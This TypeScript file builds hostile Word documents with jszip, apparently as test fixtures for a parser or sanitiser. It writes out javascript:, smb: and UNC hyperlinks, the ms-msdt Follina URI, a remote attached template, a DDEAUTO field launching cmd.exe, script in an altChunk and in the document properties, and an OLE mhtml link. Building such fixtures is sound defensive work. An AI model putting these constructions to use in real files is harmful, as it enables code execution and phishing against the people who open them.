// Word documents written part by part with jszip, so that every hostile relationship is exactly where an
// attacker puts it: hyperlinks to javascript:, file:, smb: and custom schemes, an HTML altChunk with a
// script, images and templates linked from the attacker's host (the remote-template trick of the Follina
// attack), field codes (HYPERLINK, INCLUDEPICTURE, DDEAUTO), markup in the document properties and text
// that merely looks like markup.
import JSZip from 'jszip';
import { BENIGN_SENTENCE, CLOSING, INTRO, caseTitle, type HostileCategory, type Payloads } from './payloads';

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const HYPERLINK = `${REL}/hyperlink`;

interface Relationship {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

export interface DocxCase {
  category: HostileCategory;
  description: string;
  /** Paragraph XML before and after the sentence's paragraph. */
  before?: string;
  after?: string;
  /** The sentence paragraph's runs, when the payload sits among its words. */
  sentence?: string;
  relationships?: Relationship[];
  /** Extra package parts, by path. */
  parts?: Record<string, string>;
  settingsRelationships?: Relationship[];
  title?: string;
  creator?: string;
  payloadAsText?: boolean;
}

export function xml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

const run = (text: string) => `<w:r><w:t xml:space="preserve">${xml(text)}</w:t></w:r>`;
const paragraph = (inner: string) => `<w:p>${inner}</w:p>`;
const link = (id: string, text: string) => `<w:hyperlink r:id="${id}">${run(text)}</w:hyperlink>`;

/** The sentence with `phrase` made a hyperlink through relationship `id`. */
function sentenceLinking(phrase: string, id: string): string {
  const at = BENIGN_SENTENCE.indexOf(phrase);
  return (
    run(BENIGN_SENTENCE.slice(0, at)) + link(id, phrase) + run(BENIGN_SENTENCE.slice(at + phrase.length))
  );
}

function relationshipsXml(relationships: Relationship[]): string {
  const rows = relationships.map(
    (r) =>
      `<Relationship Id="${r.id}" Type="${r.type}" Target="${xml(r.target)}"${r.external ? ' TargetMode="External"' : ''}/>`,
  );
  return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rows.join('')}</Relationships>`;
}

/** Parts carry a fixed date, so the same case always makes the same bytes. */
const PART_DATE = new Date(Date.UTC(2022, 4, 4));

export async function docxDocument(id: string, made: DocxCase): Promise<Uint8Array> {
  const archive = new JSZip();
  const zip = {
    file: (path: string, content: string) =>
      archive.file(path, content, { date: PART_DATE, createFolders: false }),
  };
  zip.file(
    '[Content_Types].xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/><Default Extension="htm" ContentType="text/html"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
      '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
  );
  zip.file(
    '_rels/.rels',
    relationshipsXml([
      { id: 'rId1', type: `${REL}/officeDocument`, target: 'word/document.xml' },
      {
        id: 'rId2',
        type: 'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties',
        target: 'docProps/core.xml',
      },
    ]),
  );
  zip.file(
    'docProps/core.xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">' +
      `<dc:title>${xml(made.title ?? caseTitle(id, made.description))}</dc:title><dc:creator>${xml(made.creator ?? 'Harbour Desk')}</dc:creator><dc:language>en</dc:language></cp:coreProperties>`,
  );
  const body = [
    paragraph(run(caseTitle(id, made.description))),
    paragraph(run(INTRO)),
    made.before ?? '',
    paragraph(made.sentence ?? run(BENIGN_SENTENCE)),
    made.after ?? '',
    paragraph(run(CLOSING)),
  ].join('');
  zip.file(
    'word/document.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><w:body>${body}</w:body></w:document>`,
  );
  const settings = made.settingsRelationships
    ? [{ id: 'rIdSettings', type: `${REL}/settings`, target: 'settings.xml' }]
    : [];
  zip.file('word/_rels/document.xml.rels', relationshipsXml([...(made.relationships ?? []), ...settings]));
  if (made.settingsRelationships) {
    zip.file(
      'word/settings.xml',
      `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rIdTemplate"/></w:settings>`,
    );
    zip.file('word/_rels/settings.xml.rels', relationshipsXml(made.settingsRelationships));
  }
  for (const [path, content] of Object.entries(made.parts ?? {})) zip.file(path, content);
  return archive.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

const field = (instruction: string, shown: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${xml(instruction)} </w:instrText></w:r>` +
  `<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(shown)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

export const DOCX_CASES: ((p: Payloads) => DocxCase)[] = [
  (p) => ({
    category: 'docx-external',
    description: 'Word hyperlink to javascript on the sentence',
    sentence: sentenceLinking('harbour inquiry', 'rIdJs'),
    relationships: [{ id: 'rIdJs', type: HYPERLINK, target: p.jsUrl('docx-link'), external: true }],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word hyperlinks to file, smb and UNC paths',
    before: paragraph(`${link('rIdFile', 'Calculator')} ${link('rIdSmb', 'Share')} ${link('rIdUnc', 'UNC')}`),
    relationships: [
      { id: 'rIdFile', type: HYPERLINK, target: 'file:///C:/Windows/System32/calc.exe', external: true },
      { id: 'rIdSmb', type: HYPERLINK, target: `smb://${p.host}/share/x.exe`, external: true },
      { id: 'rIdUnc', type: HYPERLINK, target: `\\\\${p.host}\\share\\x.exe`, external: true },
    ],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word hyperlinks to data and custom schemes',
    before: paragraph(`${link('rIdData', 'Data')}${run(' and ')}${link('rIdMsdt', 'Diagnostics')}`),
    relationships: [
      { id: 'rIdData', type: HYPERLINK, target: p.dataHtml('docx-data'), external: true },
      { id: 'rIdMsdt', type: HYPERLINK, target: 'ms-msdt:/id PCWDiagnostic /skip force', external: true },
    ],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word hyperlink to the attacker and a hostile anchor',
    sentence: sentenceLinking('the cranes', 'rIdHttp'),
    after: paragraph(
      `<w:hyperlink w:anchor="x&quot; onclick=&quot;${xml(p.js('docx-anchor'))}">${run('Anchor')}</w:hyperlink>`,
    ),
    relationships: [{ id: 'rIdHttp', type: HYPERLINK, target: p.url('docx-http'), external: true }],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word altChunk with an HTML page',
    after: '<w:altChunk r:id="rIdAlt"/>',
    relationships: [{ id: 'rIdAlt', type: `${REL}/aFChunk`, target: 'afchunk.htm' }],
    parts: {
      'word/afchunk.htm': `<html><body onload="${p.js('altchunk-onload')}"><script>${p.js('altchunk')}</script><iframe src="${p.url('altchunk-iframe')}"></iframe></body></html>`,
    },
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word images linked from the attacker',
    before:
      paragraph(
        `<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdImg" o:title=""/></v:shape></w:pict></w:r>`,
      ) + paragraph(field(`INCLUDEPICTURE "${p.url('includepicture')}" \\d`, 'Picture')),
    relationships: [{ id: 'rIdImg', type: `${REL}/image`, target: p.url('docx-image'), external: true }],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word remote template',
    settingsRelationships: [
      {
        id: 'rIdTemplate',
        type: `${REL}/attachedTemplate`,
        target: `${p.url('template')}.dotm`,
        external: true,
      },
    ],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word fields with javascript and DDE',
    before:
      paragraph(field(`HYPERLINK "${p.jsUrl('field-link')}"`, 'Field link')) +
      paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'Update')) +
      paragraph(
        `<w:fldSimple w:instr="HYPERLINK &quot;${xml(p.url('fldsimple'))}&quot;">${run('Simple field')}</w:fldSimple>`,
      ),
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word properties carrying markup',
    title: `<img src=x onerror=${p.js('docx-title')}> Harbour`,
    creator: `<script>${p.js('docx-creator')}</script>`,
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word text that looks like markup',
    before: paragraph(
      run(`<script>${p.js('docx-text')}</script><img src=x onerror=${p.js('docx-text-img')}>`),
    ),
    payloadAsText: true,
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word embedded object linked from the attacker',
    before: paragraph(
      `<w:r><w:object><v:shape style="width:10pt;height:10pt"/><o:OLEObject Type="Link" ProgID="htmlfile" r:id="rIdOle" UpdateMode="OnCall"/></w:object></w:r>`,
    ),
    relationships: [
      {
        id: 'rIdOle',
        type: `${REL}/oleObject`,
        target: `mhtml:${p.url('ole')}!x-usc:${p.url('ole2')}`,
        external: true,
      },
    ],
  }),
  (p) => ({
    category: 'docx-external',
    description: 'Word footnote with a javascript link',
    before: paragraph(`${run('The terminal log was attached.')}<w:r><w:footnoteReference w:id="1"/></w:r>`),
    relationships: [{ id: 'rIdFootnotes', type: `${REL}/footnotes`, target: 'footnotes.xml' }],
    parts: {
      'word/footnotes.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="${W}" xmlns:r="${R}"><w:footnote w:id="1"><w:p>${link('rIdNoteJs', 'Source note')}</w:p></w:footnote></w:footnotes>`,
      'word/_rels/footnotes.xml.rels': relationshipsXml([
        { id: 'rIdNoteJs', type: HYPERLINK, target: p.jsUrl('footnote'), external: true },
      ]),
    },
  }),
];
